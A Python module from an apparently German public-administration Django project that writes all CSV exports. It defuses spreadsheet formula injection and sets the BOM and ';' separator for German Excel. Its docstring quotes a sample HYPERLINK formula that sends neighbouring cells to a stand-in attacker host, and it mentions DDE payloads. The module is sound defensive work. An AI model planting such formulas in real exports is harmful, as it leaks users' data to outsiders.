"""The one CSV writer of Amtsweg's exports: cells that a spreadsheet would run as a formula are defused.

CSV exports end up in Excel or LibreOffice. A cell that begins with `=`, `+`, `-` or `@` (or a tab or
carriage return or line break, which some programs skip before reading the rest) is taken as a formula there:
`=HYPERLINK("https://evil.example/?"&A2, "Klick")` leaks the neighbouring cells, DDE payloads start
programs. Names in our exports are typed by other tenants (an authority's name, an offer's name), so
the Land operator who opens the file must not run what a Kommune typed. OWASP's rule is applied: such a
cell gets a leading single quote, which spreadsheets hide and which turns the cell into text. The
full-width forms (`＝＋－＠`) count too, as some spreadsheet versions read them as their ASCII forms, and
so does a trigger behind leading spaces.

Numbers stay numbers (decided here, for every export): an `int`, `float` or `Decimal` is written as it
is, and so is a string that is nothing but a number in German or English notation (`-1.234,56`, `+3`,
`12.5`): with only digits, separators and one leading sign there is no formula to run, and the
consumer (a spreadsheet summing cost shares) needs the value to be numeric. Everything else that starts
with a trigger, even `-5 EUR` or `+49 681 …`, becomes text.

German Excel opens a file by double click only in one way: it takes the encoding from a UTF-8 byte order
mark (without one it reads Windows-1252, so "Saarbrücken" becomes "SaarbrÃ¼cken") and the separator from
the Windows list separator, which is `;` in German locales (with `,` every row lands in column A). So every
export starts with the BOM and separates with `;` (issue 16, item 12); `response()` makes the download with
both, and a test fails if a module answers `text/csv` without it. The imports read such files back
(`core.importing.parse_csv` skips the BOM and finds the separator).

`defusedcsv` does the same for its list of characters, but not for a leading tab or carriage return
(OWASP lists both) nor for full-width forms, hence this small module. Every CSV export writes through
`writer()`; a test fails if another module uses `csv.writer` or `csv.DictWriter` itself.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Protocol

from django.http import HttpResponse

TRIGGERS = frozenset("=+-@＝＋－＠")
CONTROL_TRIGGERS = frozenset("\t\r\n")
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9][0-9.,]*")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def neutralise(value: Any) -> Any:
    """The cell as written: numbers unchanged, formula-like text with a leading `'`."""
    if value is None or isinstance(value, bool):
        return "" if value is None else str(value)
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if not text:
        return text
    if text[0] in CONTROL_TRIGGERS:
        return "'" + text
    first = text.lstrip(" \u00a0\u3000")[:1]
    if first in TRIGGERS and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class Writer:
    """`csv.writer` with every cell passed through `neutralise`."""

    def __init__(self, out: _Writable, **fmtparams: Any):
        self._writer = csv.writer(out, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


BOM = "\ufeff"
MEDIA_TYPE = "text/csv"  # for an API renderer that writes with `writer` (answering it elsewhere fails a test)


def writer(out: _Writable, *, delimiter: str = ";", bom: bool = True, **fmtparams: Any) -> Writer:
    """A CSV writer for an export: the UTF-8 byte order mark first (unless `bom=False`, for a writer that
    continues a file), `;` as the separator, as German Excel expects."""
    if bom:
        out.write(BOM)
    return Writer(out, delimiter=delimiter, **fmtparams)


def response(filename: str, content: str = "") -> HttpResponse:
    """A CSV download named `filename`: UTF-8, as an attachment. Write rows into it with `writer(response)`
    (which starts with the BOM), or pass a `content` made by `writer` on a `StringIO`."""
    answer = HttpResponse(content, content_type=f"{MEDIA_TYPE}; charset=utf-8")
    answer["Content-Disposition"] = f'attachment; filename="{filename}"'
    return answer
